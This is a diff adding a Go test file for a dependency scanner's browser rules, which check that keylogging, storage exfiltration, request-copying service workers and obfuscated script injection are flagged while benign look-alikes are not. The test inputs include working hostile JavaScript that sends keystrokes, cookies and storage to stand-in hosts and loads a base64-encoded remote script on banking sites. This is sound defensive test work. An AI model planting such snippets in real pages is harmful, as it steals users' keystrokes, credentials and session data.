@@ -1,0 +1,60 @@
+package browser
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/depfence/depfence/internal/finding"
+	rt "github.com/depfence/depfence/internal/rules/rulestest"
+)
+
+// pad makes a file large enough to be taken for a bundle.
+var pad = strings.Repeat("var a = b + c;\n", 40000)
+
+func TestPageExfil(t *testing.T) {
+	rt.Check(t, PageExfil{}, []rt.Case{
+		{"keylogger", map[string]string{"index.js": `let buf = []; document.addEventListener("keydown", e => buf.push(e.key));
+setInterval(() => { if (buf.length) fetch("https://k.example.invalid/c", { method: "POST", body: buf.join("") }); buf = [] }, 5000)`}, finding.SeverityHigh},
+		{"keylogger_onkeypress", map[string]string{"index.js": `var keys = ""; document.onkeypress = function (e) { keys += String.fromCharCode(e.which) };
+window.onbeforeunload = function () { navigator.sendBeacon("https://k.example.invalid/b", keys) }`}, finding.SeverityHigh},
+		// a shortcut handler compares keys; the app's analytics call is elsewhere
+		{"hotkeys", map[string]string{"index.js": `document.addEventListener("keydown", e => { if (e.key === "k" && e.metaKey) open() });
+export function track(ev) { fetch("https://events.example.invalid/v1", { method: "POST", body: JSON.stringify(ev) }) }`}, finding.SeverityNone},
+		// a Konami-code easter egg keeps keys and sends nothing
+		{"key_sequence", map[string]string{"index.js": `const seq = []; window.addEventListener("keyup", e => { seq.push(e.key); if (seq.slice(-4).join() === "a,b,a,b") party() })`}, finding.SeverityNone},
+		// keys kept in a bundle far from an unrelated request
+		{"bundle_apart", map[string]string{"index.js": `const seq = []; window.addEventListener("keyup", e => { seq.push(e.key) });` + pad +
+			`fetch("https://docs.example.invalid/search", { method: "POST", body: q })`}, finding.SeverityNone},
+		{"storage_dump", map[string]string{"index.js": `function gather() { const o = { c: document.cookie }; for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); o[k] = localStorage.getItem(k) } return o }
+setTimeout(() => fetch("https://s.example.invalid/s", { method: "POST", mode: "no-cors", body: JSON.stringify(gather()) }), 1500)`}, finding.SeverityHigh},
+		{"storage_stringify", map[string]string{"index.js": `new Image().src = "https://s.example.invalid/p.gif?d=" + btoa(JSON.stringify(sessionStorage))`}, finding.SeverityHigh},
+		// analytics read their own key
+		{"analytics_own_key", map[string]string{"index.js": `const id = localStorage.getItem("_ax_id") || newId(); navigator.sendBeacon("https://in.analytics.example.invalid/e", JSON.stringify({ id }))`}, finding.SeverityNone},
+		// one item serialised for a request is not the whole store
+		{"storage_item", map[string]string{"index.js": `fetch("https://api.example.invalid/prefs", { method: "PUT", body: JSON.stringify(localStorage.getItem("prefs")) })`}, finding.SeverityNone},
+		// a storage library enumerates keys and sends nothing
+		{"storage_library", map[string]string{"index.js": `export function keys() { return Object.keys(localStorage).filter(k => k.startsWith(PREFIX)) }`}, finding.SeverityNone},
+		// enumerated storage sent to the local dev server
+		{"storage_to_localhost", map[string]string{"index.js": `fetch("http://localhost:3000/__debug", { method: "POST", body: JSON.stringify(localStorage) })`}, finding.SeverityNone},
+		{"service_worker_copy", map[string]string{"sw.js": `self.addEventListener("fetch", event => { const req = event.request; if (req.method === "POST") event.respondWith((async () => {
+  const body = await req.clone().text(); fetch("https://p.example.invalid/p", { method: "POST", mode: "no-cors", body: req.url + "\n" + body }); return fetch(req) })()) })`}, finding.SeverityHigh},
+		// a caching worker forwards requests to their own origin and fetches its CDN manifest
+		{"caching_worker", map[string]string{"sw.js": `self.addEventListener("fetch", event => { event.respondWith(caches.match(event.request).then(r => r || fetch(event.request))) });
+self.addEventListener("install", e => e.waitUntil(fetch("https://cdn.example.invalid/manifest.json").then(r => r.json()).then(precache)))`}, finding.SeverityNone},
+	})
+}
+
+func TestScriptInjection(t *testing.T) {
+	rt.Check(t, ScriptInjection{}, []rt.Case{
+		{"decoded_src", map[string]string{"index.js": `const U = "aHR0cHM6Ly9zLmV4YW1wbGUuaW52YWxpZC9saWIvcy5qcw==";
+export function boot() { if (!/bank|paypal/i.test(location.hostname)) return; const s = document.createElement("script"); s.src = atob(U); document.head.appendChild(s) }`}, finding.SeverityCritical},
+		{"char_codes_write", map[string]string{"index.js": `document.write("<script src='" + String.fromCharCode(104,116,116,112,115,58,47,47,120,46,101,120,97,109,112,108,101,46,105,110,118,97,108,105,100,47,97,46,106,115) + "'></scr" + "ipt>")`}, finding.SeverityCritical},
+		// an SDK loader names its CDN in plain text
+		{"sdk_loader", map[string]string{"index.js": `export function load() { const s = document.createElement("script"); s.src = "https://js.payments.example.invalid/v3"; document.head.appendChild(s) }`}, finding.SeverityNone},
+		// a decoded URL that is only fetched as data
+		{"decoded_config_url", map[string]string{"index.js": `const u = atob("aHR0cHM6Ly9jZmcuZXhhbXBsZS5pbnZhbGlkL2MuanNvbg=="); fetch(u).then(r => r.json())`}, finding.SeverityNone},
+		// a bundle: a loader at one end, a decoder of an unrelated URL at the other
+		{"bundle_apart", map[string]string{"index.js": `function loadScript(src) { const s = document.createElement("script"); s.src = src; document.head.appendChild(s) }` + pad +
+			`const docs = atob("aHR0cHM6Ly9kb2NzLmV4YW1wbGUuaW52YWxpZC8=")`}, finding.SeverityNone},
+	})
+}
